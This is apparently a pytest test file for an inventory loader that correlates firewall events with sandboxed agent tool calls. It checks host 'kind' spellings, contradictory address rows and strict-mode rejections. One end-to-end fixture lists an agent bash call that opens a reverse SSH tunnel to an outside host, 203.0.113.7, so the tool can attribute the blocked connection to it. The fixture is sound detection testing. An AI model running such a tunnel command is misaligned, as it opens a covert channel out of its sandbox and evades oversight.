"""Inventory ``kind`` column and contradictory rows (issue #12): what loads, what is rejected, why.

Fixtures: ``tests/data/inventory/kinds.csv`` and the same rows as ``{"hosts": [...]}`` in
``kinds.json`` (see ``tests/data/inventory/README.md`` for the traps by line).
"""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from correlate.errors import StrictRejection
from correlate.identity import KINDS
from correlate.loaders import LoadOptions, LoadResult, detect
from correlate.loaders import inventory as inventory_loader
from correlate.pipeline import RunOptions, run
from correlate.sources import Source
from correlate.timeparse import parse_iso

TESTS = Path(__file__).resolve().parent
KINDS_CSV = TESTS / "data" / "inventory" / "kinds.csv"
KINDS_JSON = TESTS / "data" / "inventory" / "kinds.json"
PROVENANCE = ("source_path", "source_line")

# kinds.csv: line -> the reason its rejection must contain
CSV_REJECTS = {
    3: "contradicts line 2: 10.0.0.5 is held exclusively (kind sandbox) by sbx-a1 "
    "over an overlapping time",
    18: "kind 'vm' is not one of sandbox, docker_host, node, nat",
    19: "contradicts line 5: dock-1-s1 holds 172.17.0.1 as docker_host, not node, "
    "over an overlapping time",
    21: "contradicts line 4: 10.0.0.5 is held exclusively (kind sandbox) by sbx-a3",
    23: "valid_to is not after valid_from",
    24: "ip is not an IP address: '10.0.0.300'",
}
CSV_KINDS = {
    2: ("sbx-a1", "10.0.0.5", "sandbox"),
    4: ("sbx-a3", "10.0.0.5", "sandbox"),
    5: ("dock-1-s1", "172.17.0.1", "docker_host"),
    6: ("dock-1-s2", "172.17.0.1", "docker_host"),
    7: ("dock-1-s3", "172.17.0.1", "docker_host"),
    8: ("pod-1", "10.1.0.1", "node"),
    9: ("pod-2", "10.1.0.1", "node"),
    10: ("sbx-n1", "47.96.0.1", "nat"),
    11: ("sbx-n2", "47.96.0.1", "nat"),
    12: ("sbx-n3", "47.96.0.1", "nat"),
    13: ("sbx-n1", "10.2.0.11", "sandbox"),
    14: ("sbx-n2", "10.2.0.12", "sandbox"),
    15: ("sbx-u", "10.0.0.9", None),
    16: ("sbx-v", "10.0.0.9", None),
    17: ("sbx-w", "10.0.0.9", "sandbox"),
    20: ("dock-1-s1", "172.17.0.1", "node"),
    22: ("sbx-a1", "10.0.0.5", "sandbox"),
}


def ns(text: str) -> int:
    return parse_iso(text)[0]


def load(path: Path, options: LoadOptions | None = None) -> LoadResult:
    source = Source(path, path.name)
    detected = detect(source)
    assert detected.name == "inventory", (path, detected.name)
    return detected.loader.read(source, options or LoadOptions())


def write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def kinds_of(result: LoadResult) -> dict[int, tuple[str, str, str | None]]:
    return {r["source_line"]: (r["host"], r["ip"], r["kind"]) for r in result.table.to_pylist()}


def rejects(result: LoadResult) -> dict[int, str]:
    got = {r.location.line: r.reason for r in result.rejects}
    assert len(got) == len(result.rejects)  # one reject per line
    return got


def assert_rejects(result: LoadResult, expected: dict[int, str]) -> None:
    got = rejects(result)
    assert sorted(got) == sorted(expected), got
    for line, fragment in expected.items():
        assert fragment in got[line], (line, got[line])


def assert_balanced(result: LoadResult) -> None:
    stats = result.stats
    assert stats.read == stats.loaded + stats.rejected + stats.skipped_total
    assert stats.loaded == result.table.num_rows
    assert stats.rejected == len(result.rejects)


def without_provenance(table: pa.Table) -> pa.Table:
    return table.drop_columns(list(PROVENANCE))


def csv_as_json(path: Path, spelling: str, out: Path) -> Path:
    """The CSV's rows as JSON (empty cells left out): array, hosts object or JSON lines."""
    with path.open(newline="") as stream:
        records = [{k: v for k, v in r.items() if v != ""} for r in csv.DictReader(stream)]
    if spelling == "array":
        return write(out / "hosts.json", json.dumps(records, indent=1))
    if spelling == "hosts-object":
        return write(out / "hosts.json", json.dumps({"hosts": records}, indent=1))
    return write(out / "hosts.jsonl", "".join(json.dumps(r) + "\n" for r in records))


# --- kinds and their spellings -------------------------------------------------------------------


def test_the_loader_accepts_exactly_the_engines_kinds():
    assert set(inventory_loader.KIND_ALIASES.values()) == set(KINDS)
    for kind in KINDS:
        assert inventory_loader.KIND_ALIASES[kind] == kind


def test_fixture_kinds_and_spellings_load():
    result = load(KINDS_CSV)
    assert kinds_of(result) == CSV_KINDS
    assert_rejects(result, CSV_REJECTS)
    assert_balanced(result)
    assert result.stats.skipped == {"CSV header": 1}


@pytest.mark.parametrize(
    ("spelled", "kind"),
    [
        ("sandbox", "sandbox"),
        ("SANDBOX", "sandbox"),
        ("pod", "sandbox"),
        ("Container", "sandbox"),
        ("docker_host", "docker_host"),
        ("docker-host", "docker_host"),
        ("Docker Host", "docker_host"),
        ("DockerHost", "docker_host"),
        ("node", "node"),
        ("k8s_node", "node"),
        ("K8S-Node", "node"),
        ("kubernetes_node", "node"),
        ("nat", "nat"),
        ("nat_gateway", "nat"),
        ("NAT-Gateway", "nat"),
        ("natgw", "nat"),
        ("nat_gw", "nat"),
        ("EIP", "nat"),
        (" node ", "node"),
        ("", None),
        ("  ", None),
    ],
)
def test_kind_spellings(tmp_path, spelled, kind):
    path = write(tmp_path / "inventory.csv", f"host,ip,kind\nsbx-1,10.0.0.5,{spelled}\n")
    result = load(path)
    assert kinds_of(result) == {2: ("sbx-1", "10.0.0.5", kind)}
    assert_balanced(result)


def test_a_type_column_is_not_read_as_the_kind(tmp_path) -> None:
    """Inventories often carry an instance type (``ecs.g7.large``); it is not how the address is held."""
    path = tmp_path / "inventory.csv"
    path.write_text("host,ip,type\nvm-1,10.0.0.5,ecs.g7.large\n")
    result = inventory_loader.read(Source(path, str(path)), LoadOptions())
    assert result.stats.loaded == 1 and result.table.column("kind").to_pylist() == [None]


@pytest.mark.parametrize("column", ["kind", "KIND", "role", "Role", "held_as"])
def test_kind_column_names(tmp_path, column):
    path = write(tmp_path / "inventory.csv", f"host,ip,{column}\nsbx-1,10.0.0.5,docker-host\n")
    assert kinds_of(load(path)) == {2: ("sbx-1", "10.0.0.5", "docker_host")}


def test_kind_column_names_in_json(tmp_path):
    path = write(
        tmp_path / "hosts.jsonl",
        '{"host": "a", "ip": "10.0.0.5", "Role": "node"}\n'
        '{"host": "b", "ip": "10.0.0.5", "held_as": "Node"}\n'
        '{"host": "c", "ip": "10.0.0.5", "kind": null}\n',
    )
    assert kinds_of(load(path)) == {
        1: ("a", "10.0.0.5", "node"),
        2: ("b", "10.0.0.5", "node"),
        3: ("c", "10.0.0.5", None),
    }


def test_no_kind_column_leaves_kind_unspecified(tmp_path):
    path = write(tmp_path / "inventory.csv", "host,ip\nsbx-1,10.0.0.5\nsbx-2,10.0.0.5\n")
    result = load(path)
    assert kinds_of(result) == {2: ("sbx-1", "10.0.0.5", None), 3: ("sbx-2", "10.0.0.5", None)}
    assert not result.rejects


@pytest.mark.parametrize(
    "spelled", ["vm", "docker", "shared", "exclusive", "sandboxes", "nat gw x"]
)
def test_unknown_kind_is_rejected_naming_the_allowed_kinds(tmp_path, spelled):
    path = write(
        tmp_path / "inventory.csv",
        f"host,ip,kind\nsbx-1,10.0.0.5,{spelled}\nsbx-2,10.0.0.6,sandbox\n",
    )
    result = load(path)
    assert_rejects(
        result,
        {2: f"kind {spelled!r} is not one of sandbox, docker_host, node, nat (or empty"},
    )
    assert kinds_of(result) == {3: ("sbx-2", "10.0.0.6", "sandbox")}  # the rest still loads
    assert_balanced(result)


@pytest.mark.parametrize("value", ["5", "true", '{"kind": "node"}', '["node"]'])
def test_json_kind_that_is_not_text_is_rejected(tmp_path, value):
    path = write(tmp_path / "hosts.jsonl", f'{{"host": "a", "ip": "10.0.0.5", "kind": {value}}}\n')
    result = load(path)
    assert list(rejects(result)) == [1]
    assert "is not one of sandbox, docker_host, node, nat" in rejects(result)[1]
    assert_balanced(result)


# --- contradictions ------------------------------------------------------------------------------


def test_overlapping_exclusive_rows_of_two_hosts_reject_the_later_naming_the_earlier(tmp_path):
    path = write(
        tmp_path / "inventory.csv",
        "host,ip,valid_from,valid_to,kind\n"
        "sbx-1,10.0.0.5,2025-12-02T06:00:00Z,2025-12-02T07:00:00Z,sandbox\n"
        "sbx-9,10.0.0.6,,,sandbox\n"
        "sbx-2,10.0.0.5,2025-12-02T06:59:59Z,,sandbox\n",
    )
    result = load(path)
    assert [str(r) for r in result.rejects] == [
        "inventory.csv:4: contradicts line 2: 10.0.0.5 is held exclusively (kind sandbox) by "
        "sbx-1 over an overlapping time"
    ]
    assert sorted(kinds_of(result)) == [2, 3]
    assert_balanced(result)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        (",", ","),  # both open: always overlap
        (",2025-12-02T07:00:00Z", "2025-12-02T06:30:00Z,"),
        ("2025-12-02T06:00:00Z,", ",2025-12-02T06:00:01Z"),
        ("2025-12-02T06:00:00Z,2025-12-02T08:00:00Z", "2025-12-02T07:00:00Z,2025-12-02T07:01:00Z"),
    ],
)
def test_exclusive_overlaps_are_contradictions(tmp_path, first, second):
    path = write(
        tmp_path / "inventory.csv",
        f"host,ip,valid_from,valid_to,kind\nsbx-1,10.0.0.5,{first},pod\nsbx-2,10.0.0.5,{second},pod\n",
    )
    assert list(rejects(load(path))) == [3]


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("2025-12-02T06:00:00Z,2025-12-02T07:00:00Z", "2025-12-02T07:00:00Z,"),  # touching
        (",2025-12-02T06:00:00Z", "2025-12-02T06:00:00Z,2025-12-02T07:00:00Z"),
        ("2025-12-02T08:00:00Z,", "2025-12-02T06:00:00Z,2025-12-02T07:00:00Z"),  # earlier later
    ],
)
def test_exclusive_reuse_one_after_the_other_loads(tmp_path, first, second):
    path = write(
        tmp_path / "inventory.csv",
        f"host,ip,valid_from,valid_to,kind\nsbx-1,10.0.0.5,{first},sandbox\n"
        f"sbx-2,10.0.0.5,{second},sandbox\n",
    )
    result = load(path)
    assert not result.rejects
    assert sorted(kinds_of(result)) == [2, 3]


@pytest.mark.parametrize(
    ("kind_1", "kind_2"),
    [
        ("docker_host", "docker_host"),
        ("node", "node"),
        ("nat", "nat"),
        ("docker_host", "nat"),  # different shared kinds of different hosts: still sharing
        ("sandbox", "docker_host"),
        ("nat", "sandbox"),
        ("", ""),
        ("sandbox", ""),
        ("", "sandbox"),
    ],
)
def test_overlapping_rows_of_different_hosts_that_are_not_both_exclusive_load(
    tmp_path, kind_1, kind_2
):
    path = write(
        tmp_path / "inventory.csv",
        f"host,ip,kind\nsbx-1,10.0.0.5,{kind_1}\nsbx-2,10.0.0.5,{kind_2}\n",
    )
    result = load(path)
    assert not result.rejects
    assert sorted(kinds_of(result)) == [2, 3]


def test_many_hosts_on_one_shared_address_load(tmp_path):
    lines = "".join(f"sbx-{i},172.17.0.1,2025-12-02T06:00:00Z,,docker_host\n" for i in range(16))
    path = write(tmp_path / "inventory.csv", "host,ip,valid_from,valid_to,kind\n" + lines)
    result = load(path)
    assert result.stats.loaded == 16
    assert not result.rejects


def test_same_host_and_address_with_two_kinds_over_overlapping_time_is_rejected(tmp_path):
    path = write(
        tmp_path / "inventory.csv",
        "host,ip,valid_from,valid_to,kind\n"
        "sbx-1,172.17.0.1,2025-12-02T06:00:00Z,2025-12-02T08:00:00Z,docker_host\n"
        "sbx-1,172.17.0.1,2025-12-02T07:00:00Z,,node\n"  # overlaps: contradiction
        "sbx-1,172.17.0.1,2025-12-02T08:00:00Z,,nat\n"  # after line 2 ends, but overlaps nothing kept
        "sbx-1,172.17.0.1,2025-12-02T07:30:00Z,,\n"  # unspecified: contradicts nothing
        "sbx-1,172.17.0.1,2025-12-02T06:30:00Z,2025-12-02T07:00:00Z,docker_host\n",  # same kind
    )
    result = load(path)
    assert [str(r) for r in result.rejects] == [
        "inventory.csv:3: contradicts line 2: sbx-1 holds 172.17.0.1 as docker_host, not node, "
        "over an overlapping time"
    ]
    assert sorted(kinds_of(result)) == [2, 4, 5, 6]
    assert_balanced(result)


def test_a_rejected_row_contradicts_nothing(tmp_path):
    path = write(
        tmp_path / "inventory.csv",
        "host,ip,valid_from,valid_to,kind\n"
        "sbx-1,10.0.0.5,,2025-12-02T07:00:00Z,sandbox\n"
        "sbx-2,10.0.0.5,2025-12-02T06:00:00Z,,sandbox\n"  # contradicts line 2: rejected
        "sbx-3,10.0.0.5,2025-12-02T07:00:00Z,,sandbox\n",  # overlaps only the rejected row
    )
    result = load(path)
    assert list(rejects(result)) == [3]
    assert sorted(kinds_of(result)) == [2, 4]


def test_rows_of_other_files_are_not_compared(tmp_path):
    first = write(tmp_path / "inventory_a.csv", "host,ip,kind\nsbx-1,10.0.0.5,sandbox\n")
    second = write(tmp_path / "inventory_b.csv", "host,ip,kind\nsbx-2,10.0.0.5,sandbox\n")
    assert not load(first).rejects
    assert not load(second).rejects


# --- validity and addresses (already checked before kinds) ---------------------------------------


@pytest.mark.parametrize(
    ("valid_from", "valid_to"),
    [
        ("2025-12-02T08:00:00Z", "2025-12-02T07:00:00Z"),
        ("2025-12-02T08:00:00Z", "2025-12-02T08:00:00Z"),  # empty [t, t)
        ("1764662400", "1764658800"),  # epoch seconds
    ],
)
def test_validity_ending_at_or_before_its_start_is_rejected(tmp_path, valid_from, valid_to):
    path = write(
        tmp_path / "inventory.csv",
        f"host,ip,valid_from,valid_to,kind\nsbx-1,10.0.0.5,{valid_from},{valid_to},sandbox\n"
        "sbx-2,10.0.0.5,,,sandbox\n",
    )
    result = load(path)
    assert [str(r) for r in result.rejects] == ["inventory.csv:2: valid_to is not after valid_from"]
    # the rejected row holds nothing, so the open row after it is no contradiction
    assert kinds_of(result) == {3: ("sbx-2", "10.0.0.5", "sandbox")}
    assert_balanced(result)


def test_invalid_address_is_rejected_and_the_rest_loads(tmp_path):
    path = write(
        tmp_path / "inventory.csv",
        "host,ip,kind\nsbx-1,10.0.0.300,sandbox\nsbx-2,not-an-ip,node\nsbx-3,10.0.0.5,sandbox\n",
    )
    result = load(path)
    assert_rejects(
        result,
        {2: "ip is not an IP address: '10.0.0.300'", 3: "ip is not an IP address: 'not-an-ip'"},
    )
    assert kinds_of(result) == {4: ("sbx-3", "10.0.0.5", "sandbox")}


def test_fixture_validity_is_kept():
    table = {r["source_line"]: r for r in load(KINDS_CSV).table.to_pylist()}
    assert table[2]["valid_from"].value == ns("2025-12-02T06:00:00Z")
    assert table[2]["valid_to"].value == ns("2025-12-02T08:00:00Z")
    assert table[4]["valid_to"] is None
    assert table[5]["note"] == "Docker host dock-1"


# --- strict mode ---------------------------------------------------------------------------------


def test_strict_mode_raises_on_the_contradiction():
    pattern = (
        r"^kinds\.csv:3: contradicts line 2: 10\.0\.0\.5 is held exclusively \(kind sandbox\) "
        r"by sbx-a1 over an overlapping time .*--strict"
    )
    with pytest.raises(StrictRejection, match=pattern):
        load(KINDS_CSV, LoadOptions(strict=True))


def test_strict_mode_raises_on_an_unknown_kind(tmp_path):
    path = write(
        tmp_path / "inventory.csv", "host,ip,role\nsbx-1,10.0.0.5,node\nsbx-2,10.0.0.6,vm\n"
    )
    with pytest.raises(StrictRejection, match=r"^inventory\.csv:3: kind 'vm' is not one of"):
        load(path, LoadOptions(strict=True))


def test_strict_mode_loads_a_clean_file_with_kinds(tmp_path):
    path = write(
        tmp_path / "inventory.csv",
        "host,ip,kind\nsbx-1,172.17.0.1,docker_host\nsbx-2,172.17.0.1,docker_host\n"
        "sbx-3,10.0.0.5,sandbox\n",
    )
    assert load(path, LoadOptions(strict=True)).table.equals(load(path).table)


# --- CSV and JSON the same -----------------------------------------------------------------------


def _json_line(csv_line: int) -> int:
    """The JSON record number of a CSV line (the CSV has a header line, JSON records none)."""
    return csv_line - 1


def _shifted(reason: str) -> str:
    return re.sub(r"contradicts line (\d+)", lambda m: f"contradicts line {int(m[1]) - 1}", reason)


def _assert_same_as_csv(result: LoadResult) -> None:
    reference = load(KINDS_CSV)
    assert without_provenance(result.table).equals(without_provenance(reference.table))
    assert result.table.column("source_line").to_pylist() == [
        _json_line(line) for line in reference.table.column("source_line").to_pylist()
    ]
    assert rejects(result) == {_json_line(k): _shifted(v) for k, v in rejects(reference).items()}
    assert (result.stats.loaded, result.stats.rejected) == (
        reference.stats.loaded,
        reference.stats.rejected,
    )
    assert result.stats.read == reference.stats.read - 1  # no header
    assert_balanced(result)


def test_checked_in_json_fixture_gives_the_csv_table():
    _assert_same_as_csv(load(KINDS_JSON))


@pytest.mark.parametrize("spelling", ["array", "hosts-object", "json-lines"])
def test_json_spellings_give_the_csv_table(tmp_path, spelling):
    _assert_same_as_csv(load(csv_as_json(KINDS_CSV, spelling, tmp_path)))


def test_strict_mode_raises_on_the_contradiction_in_json():
    with pytest.raises(StrictRejection, match=r"^kinds\.json:2: contradicts line 1: "):
        load(KINDS_JSON, LoadOptions(strict=True))


# --- end to end ----------------------------------------------------------------------------------


def _jsonl(path: Path, records: list[dict[str, Any]]) -> Path:
    return write(path, "".join(json.dumps(r) + "\n" for r in records))


def test_four_docker_host_sandboxes_on_one_address_are_all_candidates(tmp_path):
    """An inventory listing 4 hosts of kind docker_host on one address: the denied event from it
    has 4 holders, identity is shared, and the call naming the destination is attributed."""
    firewall = _jsonl(
        tmp_path / "firewall.events.jsonl",
        [
            {
                "ts": "2025-12-02T06:10:01Z",
                "src_ip": "172.17.0.1",
                "src_port": 40000,
                "dst_ip": "203.0.113.7",
                "dst_port": 22,
                "protocol": "tcp",
                "action": "deny",
                "direction": "outbound",
            }
        ],
    )
    commands = [
        "python solve.py",
        "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.7",
        "ls -la /workspace",
        "pip list",
    ]
    calls = _jsonl(
        tmp_path / "agent.calls.jsonl",
        [
            {
                "call_id": f"c-{i}",
                "episode_id": f"ep-{i}",
                "step": 1,
                "ts_start": "2025-12-02T06:10:00Z",
                "ts_end": "2025-12-02T06:10:01.500Z",
                "tool": "bash",
                "command": command,
                "host": f"sbx-{i}",
            }
            for i, command in enumerate(commands, start=1)
        ],
    )
    inventory = write(
        tmp_path / "inventory.csv",
        "host,ip,valid_from,kind\n"
        + "".join(f"sbx-{i},172.17.0.1,2025-12-02T06:00:00Z,docker_host\n" for i in range(1, 5)),
    )
    result = run([str(firewall), str(calls)], RunOptions(), inventories=[str(inventory)])
    findings = result.findings.to_pylist()
    assert len(findings) == 1
    finding = findings[0]
    assert finding["identity"] == "shared"
    assert finding["address_holders"] == 4
    assert finding["call_id"] == "c-2"
    assert finding["host"] == "sbx-2"
    assert finding["confidence"] == "high"
